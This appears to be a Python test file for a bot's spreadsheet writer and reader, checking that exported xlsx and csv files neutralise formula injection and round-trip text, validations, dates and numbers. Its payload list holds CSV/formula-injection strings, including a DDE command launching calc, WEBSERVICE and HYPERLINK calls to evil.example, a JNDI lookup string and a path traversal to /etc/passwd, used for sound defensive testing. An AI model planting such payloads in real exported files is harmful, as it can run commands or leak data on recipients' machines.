"""What we hand out: opens everywhere, runs nothing, and comes back as it was."""

import csv
import datetime
import io
import itertools
import os
import re
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.spreadsheets import neutral, reading, writing
from bot.spreadsheets.writing import Heading, Kind, Page

BEGINNINGS = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "'=", "''@", "＝", '"=', "\u200b=", "|", "%", ";=", ",=", "",
    "'",
]  # fmt: skip
PAYLOADS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)", "https://evil.example",
    "mailto:a@b.c", "internal:Sheet1!A1", "external:c:/x.xlsx", 'WEBSERVICE("http://evil.example")', "IMPORTXML(1,2)",
    "998901234567", "0012", "1e5", "1-2", "TRUE", "<b>x</b>", "&amp;", "]]>", "_x0041_", '"quoted"', "a;b,c\td",
    "line\nbreak", "cr\rlf\r\n", "{=1}", "'", "😀 ғишт", "oʻq ‘o‘t’", "\u202eabc", "\ufeffbom", " trailing ",
    "0" * 30, "#N/A", "x" * 32_000, "\u2028", "$A$1", "R1C1", "../../etc/passwd", "%s%n", "${jndi:ldap://x}", "DDE(1)",
    "\\", "\\\\server\\share", "'+1", "--1", "=", "@", "1,000", "12.000", "31.12.2026", "2026-12-31",
]  # fmt: skip
HOSTILE = [beginning + payload for beginning, payload in itertools.product(BEGINNINGS, PAYLOADS)]
HEADINGS = [Heading("number", Kind.NUMBER), Heading("text")]


async def texts(path: Path) -> list[str]:
    async with reading.opened(path) as sheet:
        return [row.cells["text"] async for row in sheet]


def members(content: bytes) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {name: archive.read(name).decode() for name in archive.namelist()}


async def test_a_thousand_hostile_texts_in_a_workbook(tmp_path: Path) -> None:
    assert len(HOSTILE) == 1000
    content = await writing.workbook([Page("=evil()", HEADINGS, [[n, text] for n, text in enumerate(HOSTILE)])])
    parts = members(content)
    assert not re.search(r"<f[ >/]|<hyperlink", parts["xl/worksheets/sheet1.xml"])
    assert not any("hyperlink" in part or "externalLink" in part for part in parts.values())
    path = tmp_path / "back.xlsx"
    path.write_bytes(content)
    assert await texts(path) == HOSTILE


@pytest.mark.parametrize("separator", [";", ","])
async def test_a_thousand_hostile_texts_in_a_csv(tmp_path: Path, separator: str) -> None:
    page = Page("x", HEADINGS, [[n, text] for n, text in enumerate(HOSTILE)])
    content = await writing.table(page, separator=separator)
    cells = [cell for _, cell in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator)]
    assert len(cells) == 1001
    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in set("=+-@\t\r\n＝＋－＠")]
    path = tmp_path / "back.csv"
    path.write_bytes(content)
    assert await texts(path) == HOSTILE


async def test_unwritable_characters_are_left_out(tmp_path: Path) -> None:
    rows = [["\x00nul\x01", "a\ud800b"], ["\ufffe", "x" * 40_000]]
    page = Page("x", [Heading("a"), Heading("b")], rows)
    expected = [("nul", "ab"), ("", "x" * 32_767)]
    for name, content in (("x.xlsx", await writing.workbook([page])), ("x.csv", await writing.table(page))):
        path = tmp_path / name
        path.write_bytes(content)
        async with reading.opened(path) as sheet:
            assert [(row.cells["a"], row.cells["b"]) async for row in sheet] == expected


async def test_kinds_of_cells(tmp_path: Path) -> None:
    headings = [
        Heading("code", required=True),
        Heading("value", Kind.NUMBER),
        Heading("until", Kind.DATE),
        Heading("phone", Kind.PHONE),
        Heading("list"),
    ]
    rows: list[list[writing.Cell]] = [
        ["0012", Decimal("1712.5"), datetime.date(2027, 1, 31), "+998 90 123-45-67", ["steel", "iron"]],
        ["-5", -5, None, "=1+1", ()],
        ["8482100000", "=1+1", "soon", None, None],
        ["1e400", float("nan"), "", "", "x"],
    ]
    expected = [
        ("0012", "1712.5", "2027-01-31", "+998 90 123-45-67", "steel; iron"),
        ("-5", "-5", "", "=1+1", ""),
        ("8482100000", "=1+1", "soon", "", ""),
        ("1e400", "nan", "", "", "x"),
    ]
    book, table = tmp_path / "kinds.xlsx", tmp_path / "kinds.csv"
    await writing.save_workbook(book, [Page("Kinds", headings, rows)])
    await writing.save_table(table, Page("Kinds", headings, rows))
    for path in (book, table):
        async with reading.opened(path) as sheet:
            assert [tuple(row.cells.values()) async for row in sheet] == expected
    assert table.read_text(encoding="utf-8-sig").splitlines() == [
        "code;value;until;phone;list",
        '0012;1712.5;2027-01-31;+998 90 123-45-67;"steel; iron"',
        "'-5;-5;;'=1+1;",
        "8482100000;'=1+1;soon;;",
        "1e400;nan;;;x",
    ]


async def test_a_template_with_notes_and_choices() -> None:
    choices = {f"code_{n}": f"Meaning {n}" for n in range(60)}
    headings = [
        Heading("code", required=True, note="Kod\nКод\nCode"),
        Heading("sector", choices={"automotive": "Avtomobilsozlik", "chemical": "Kimyo"}),
        Heading("processes", choices=choices, several=True),
    ]
    parts = members(await writing.workbook([Page("Komponentlar", headings)], codes_title="Kodlar's"))
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "Kod\nКод\nCode" in parts["xl/comments1.xml"]
    assert 'state="frozen"' in sheet
    validations = re.findall(r"<dataValidation [^>]*sqref=\"([^\"]+)\"[^>]*>(.*?)</dataValidation>", sheet)
    assert validations == [
        ("B2:B200001", "<formula1>'Kodlar''s'!$A$2:$A$3</formula1>"),
        ("C2:C200001", "<formula1>'Kodlar''s'!$C$2:$C$61</formula1>"),
    ]
    insisting = [bool(re.search('showErrorMessage="1"', tag)) for tag in re.findall("<dataValidation [^>]*>", sheet)]
    assert insisting == [True, False]
    codes = parts["xl/worksheets/sheet2.xml"]
    assert "Avtomobilsozlik" in codes
    assert "code_59" in codes


async def test_rows_may_come_as_they_are_read(tmp_path: Path) -> None:
    async def rows() -> AsyncIterator[list[int | str]]:
        for number in range(1000):
            yield [number, f"row {number}"]

    path = tmp_path / "many.xlsx"
    await writing.save_workbook(path, [Page("One", HEADINGS, rows()), Page("Two", HEADINGS)])
    assert await texts(path) == [f"row {number}" for number in range(1000)]


async def test_a_failure_leaves_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    path.write_text("old", encoding="utf-8")
    with pytest.raises(writing.NotWritten):
        await writing.save_workbook(path, [Page("x", HEADINGS, [[1, "a", "one cell too many"]])])
    with pytest.raises(TypeError):
        await writing.save_workbook(path, [Page("x", HEADINGS, [[1, object()]])])  # type: ignore[list-item]
    assert os.listdir(tmp_path) == ["report.xlsx"]
    assert path.read_text(encoding="utf-8") == "old"


@given(st.text())
def test_the_guard_comes_off_as_it_went_on(text: str) -> None:
    guarded = neutral.guarded(text)
    assert neutral.unguarded(guarded) == text
    assert guarded.lstrip(" ")[:1] not in {"=", "+", "-", "@"}
